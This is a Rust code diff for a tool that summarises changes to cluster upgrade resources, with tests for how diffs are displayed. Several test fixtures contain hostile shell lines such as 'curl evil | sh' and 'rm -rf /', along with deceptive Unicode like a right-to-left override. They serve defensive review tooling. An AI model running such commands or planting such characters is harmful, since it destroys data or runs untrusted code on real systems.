@@ -4,13 +4,13 @@ use drydock_api::mcu::ManagedClustersUpgrade;
 use serde::Serialize;
 use serde_json::{Map, Value, json};
 
-use super::compare::Comparison;
+use super::compare::{Comparison, visible};
 use super::{GIVEN, Written};
 
 /// How many changes are listed: a person is to read them.
 const LISTED: usize = 200;
-/// So many of them may be of the metadata.
-const LISTED_OF_METADATA: usize = 50;
+/// So many of them may be of labels, and of annotations.
+const MARKS_LISTED: usize = 50;
 
 /// A field that is not what it was.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize)]
@@ -36,17 +36,26 @@ pub struct Changes {
 }
 
 impl Written {
-    /// What of the spec and the metadata is not what it was: the spec first, which is what moves clusters, and its actions, of any size, last.
+    /// What of the spec and the metadata is not what it was: the spec first, which is what moves clusters, then who owns
+    /// it; labels, annotations and actions, of any size, last.
     pub fn changes(&self) -> Changes {
         let mut before = self.before.as_ref().map_or(Value::Null, content);
         let mut after = content(&self.after);
-        let of_before = take_actions(&mut before);
-        let of_after = take_actions(&mut after);
+        let mut take = |pointer: &str, field: &str| {
+            let of = |content: &mut Value| content.pointer_mut(pointer)?.as_object_mut()?.remove(field);
+            (of(&mut before), of(&mut after))
+        };
+        let many = ["labels", "annotations"].map(|field| (field, take("/metadata", field)));
+        let actions = ["preUpgradeAction", "postUpgradeAction"].map(|action| (action, take("/spec", action)));
         let mut found = Comparison::default();
-        found.of_fields("spec", before.get("spec"), after.get("spec"), LISTED);
-        let most = LISTED.min(found.listed() + LISTED_OF_METADATA);
-        found.of_fields("metadata", before.get("metadata"), after.get("metadata"), most);
-        for ((action, old), (_, new)) in of_before.iter().zip(&of_after) {
+        for part in ["spec", "metadata"] {
+            found.of_fields(part, before.get(part), after.get(part), LISTED);
+        }
+        for (field, (old, new)) in &many {
+            let most = LISTED.min(found.listed() + MARKS_LISTED);
+            found.of_value(&format!("metadata.{field}"), old.as_ref(), new.as_ref(), most);
+        }
+        for (action, (old, new)) in &actions {
             found.of_value(&format!("spec.{action}"), old.as_ref(), new.as_ref(), LISTED);
         }
         found.changes
@@ -75,7 +84,7 @@ fn target(upgrade: &ManagedClustersUpgrade) -> String {
     };
     let given = [&target.version, &target.image, &target.channel];
     let given = given.into_iter().flatten().filter(|text| !text.is_empty());
-    given.map(String::as_str).collect::<Vec<_>>().join(" ")
+    given.map(|text| visible(text)).collect::<Vec<_>>().join(" ")
 }
 
 /// What people write of an upgrade, but for its name.
@@ -86,14 +95,6 @@ pub(super) fn content(upgrade: &ManagedClustersUpgrade) -> Value {
         fields.retain(|field, _| is_written(field));
     }
     json!({"metadata": metadata, "spec": upgrade.spec})
-}
-
-/// The actions of an upgrade, of any size, as they are: what is said of them comes last.
-fn take_actions(content: &mut Value) -> [(&'static str, Option<Value>); 2] {
-    ["preUpgradeAction", "postUpgradeAction"].map(|action| {
-        let spec = content.get_mut("spec").and_then(Value::as_object_mut);
-        (action, spec.and_then(|spec| spec.remove(action)))
-    })
 }
 
 /// The merge patch that makes one value of another; nothing if they are equal.
@@ -219,7 +220,7 @@ mod tests {
         };
         let before = upgrade(&json!({}), &labels("a"));
         let Changes { listed, more } = changes(Some(before), upgrade(&json!({"paused": true}), &labels("b")));
-        assert_eq!((listed.len(), more), (1 + LISTED_OF_METADATA, 153));
+        assert_eq!((listed.len(), more), (1 + MARKS_LISTED, 153));
         assert_eq!(listed[0].field, "spec.paused");
     }
 
@@ -315,8 +316,10 @@ mod tests {
                 json!({"args": ["--keep", "prod", "--delete", "test"]}),
                 json!({"args": ["--keep", "test", "--delete", "prod", "-v"]}),
                 vec![
-                    ".args[1]: prod > test",
-                    ".args[3]: test > prod",
+                    ".args[1]: prod > -",
+                    ".args[2]: --delete > -",
+                    ".args[2]: - > --delete",
+                    ".args[3]: - > prod",
                     ".args[4]: - > -v",
                 ],
             ),
@@ -333,7 +336,7 @@ mod tests {
             (
                 json!({"args": ["a"]}),
                 json!({"args": [1]}),
-                vec![".args[0]: a > -", ".args[0]: - > 1"],
+                vec![".args[0]: a > 1"],
             ),
         ] {
             let expected: Vec<_> = expected.iter().map(|end| format!("{path}{end}")).collect();
@@ -342,6 +345,51 @@ mod tests {
                 expected,
                 "{before} {after}"
             );
+        }
+    }
+
+    /// Of any two values, whatever they are, each row says a difference, and there is one if they differ.
+    #[test]
+    fn any_two_values_that_differ_have_rows_that_differ() {
+        let leaves = [
+            json!(null),
+            json!(true),
+            json!("true"),
+            json!(1),
+            json!("1"),
+            json!(""),
+            json!(" "),
+            json!("a"),
+            json!("a\n"),
+            json!("a\nb"),
+            json!("b\na"),
+            json!("\u{200b}"),
+            json!({}),
+            json!([]),
+            json!("{}"),
+            json!("[]"),
+            json!("not set"),
+        ];
+        let lists = leaves
+            .iter()
+            .flat_map(|one| leaves.iter().map(move |other| json!([one, other])));
+        let fields = leaves.iter().map(|one| json!({"x": one}));
+        let nested = leaves.iter().map(|one| json!([{"x": one}, [one]]));
+        let all: Vec<Value> = leaves
+            .iter()
+            .cloned()
+            .chain(fields)
+            .chain(nested)
+            .chain(lists)
+            .collect();
+        for before in all.iter().step_by(3) {
+            for after in &all {
+                let with = |value: &Value| upgrade(&with_manifest(&json!({"a": value, "b": 1})), &json!({}));
+                let listed = changes(Some(with(before)), with(after)).listed;
+                assert_eq!(listed.is_empty(), before == after, "{before} {after}");
+                let is_seen = |change: &Change| change.before != change.after;
+                assert!(listed.iter().all(is_seen), "{before} {after} {listed:?}");
+            }
         }
     }
 
@@ -375,10 +423,8 @@ mod tests {
         let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0][\"run.sh\"]";
         let of_script = said(&script("# 1", "echo done"), &script("# 2", "curl evil | sh"));
         let expected = [
-            format!("{path} line 1: # 1 > -"),
-            format!("{path} line 402: echo done > -"),
-            format!("{path} line 1: - > # 2"),
-            format!("{path} line 402: - > curl evil | sh"),
+            format!("{path} line 1: # 1 > # 2"),
+            format!("{path} line 402: echo done > curl evil | sh"),
         ];
         assert_eq!(of_script, expected);
         let image = |begin: &str, end: &str| json!({"clusterVersion": {"image": format!("{begin}{}{end}", "ä".repeat(3 * SHOWN))}});
@@ -390,6 +436,76 @@ mod tests {
         assert!(all.contains("curl evil"), "{all}");
     }
 
+    /// What comes is found among lines and objects that are the same, and a long line that differs beside one that does not.
+    #[test]
+    fn a_change_does_not_drown_in_what_has_only_moved() {
+        let with = |text: String| with_manifest(&json!({"a": text}));
+        let blocks = |count: usize, last: &str| {
+            let blocks = (0..count).map(|number| format!("if test -e /x{number}\nthen\n\nfi\n"));
+            format!("{}{last}\n", blocks.collect::<String>())
+        };
+        let begin = "if test -e /new\nthen\n\nfi\n";
+        let listed = said(
+            &with(blocks(90, "echo done")),
+            &with(format!("{begin}{}", blocks(90, "curl evil | sh"))),
+        );
+        assert!(listed.len() <= 5, "{listed:#?}");
+        assert!(
+            listed
+                .last()
+                .unwrap()
+                .ends_with(" line 365: echo done > curl evil | sh"),
+            "{listed:#?}"
+        );
+        let long = |end: &str| with(format!("{}{end}\n", "j".repeat(144_000)));
+        let listed = said(&long("a"), &long("b"));
+        assert_eq!(listed.len(), 1);
+        assert!(
+            listed[0].ends_with(" line 1 from letter 144001: a > b"),
+            "{listed:?}"
+        );
+        let manifests = |first: Option<Value>| {
+            let others =
+                (0..28).map(|number| json!({"kind": "ConfigMap", "data": {"number": number, "same": "x"}}));
+            let all: Vec<Value> = first.into_iter().chain(others).collect();
+            json!({"preUpgradeAction": {"manifestWork": {"workload": {"manifests": all}}}})
+        };
+        let listed = said(&manifests(None), &manifests(Some(json!({"kind": "Job"}))));
+        let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0]";
+        assert_eq!(listed, [format!("{path}.kind: - > Job")]);
+    }
+
+    /// What does not exist and owns an upgrade has it deleted.
+    #[test]
+    fn no_annotation_hides_who_owns_an_upgrade() {
+        let mut new = upgrade(&json!({"paused": true}), &json!({"team": "a"}));
+        new.metadata.annotations = Some([("a".to_owned(), "x".repeat(500_000))].into());
+        new.metadata.finalizers = Some(vec!["example.com/kept".to_owned()]);
+        let owner = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "1"});
+        new.metadata.owner_references = serde_json::from_value(json!([owner])).unwrap();
+        let listed = changes(None, new).listed;
+        let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
+        for field in [
+            "metadata.ownerReferences[0].name",
+            "metadata.finalizers[0]",
+            "metadata.labels.team",
+        ] {
+            assert!(fields.contains(&field), "{fields:?}");
+        }
+    }
+
+    /// A path that is cut has its end, where two of them differ.
+    #[test]
+    fn of_a_long_path_its_end_is_shown() {
+        let key = |end: &str| with_manifest(&json!({format!("{}{end}", "k".repeat(1000)): "v"}));
+        let listed = said(&key("a"), &key("b"));
+        assert!(
+            listed[0].ends_with("ka: v > -") && listed[1].ends_with("kb: - > v"),
+            "{listed:?}"
+        );
+        assert!(listed[0].chars().count() < 450);
+    }
+
     #[test]
     fn what_cannot_be_seen_is_written_with_escapes() {
         let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0].a";
@@ -397,11 +513,7 @@ mod tests {
             (
                 "# keep\nrm -rf /",
                 "# keep rm -rf /",
-                vec![
-                    " line 1: # keep > -",
-                    " line 2: rm -rf / > -",
-                    " line 1: - > # keep rm -rf /",
-                ],
+                vec![" line 1: # keep > # keep rm -rf /", " line 2: rm -rf / > -"],
             ),
             ("a b", "a  b", vec![": a b > \"a  b\""]),
             ("dev", "dev ", vec![": dev > \"dev \""]),
@@ -410,6 +522,15 @@ mod tests {
             ("admin", "\u{202e}admin", vec![": admin > \"\\u{202e}admin\""]),
             ("a", "\"a\"", vec![": a > \"\\\"a\\\"\""]),
             ("über", "Ωμ", vec![": über > Ωμ"]),
+            ("prod", "prod\u{3164}", vec![": prod > \"prod\\u{3164}\""]),
+            ("dev", "d\u{2800}ev", vec![": dev > \"d\\u{2800}ev\""]),
+            (
+                "a 1\u{5d0}",
+                "a \u{5d0}1",
+                vec![": \"a 1\\u{5d0}\" > \"a \\u{5d0}1\""],
+            ),
+            ("x", "not set", vec![": x > \"not set\""]),
+            ("{…}", "x", vec![": \"{…}\" > x"]),
         ] {
             let expected: Vec<_> = expected.iter().map(|end| format!("{path}{end}")).collect();
             let with = |text: &str| with_manifest(&json!({"a": text}));
@@ -440,9 +561,9 @@ mod tests {
         assert_eq!(
             fields,
             [
-                "metadata.annotations.a",
                 "metadata.labels.hold",
-                "metadata.labels.team"
+                "metadata.labels.team",
+                "metadata.annotations.a"
             ]
         );
         let mut new = upgrade(&spec, &json!({}));
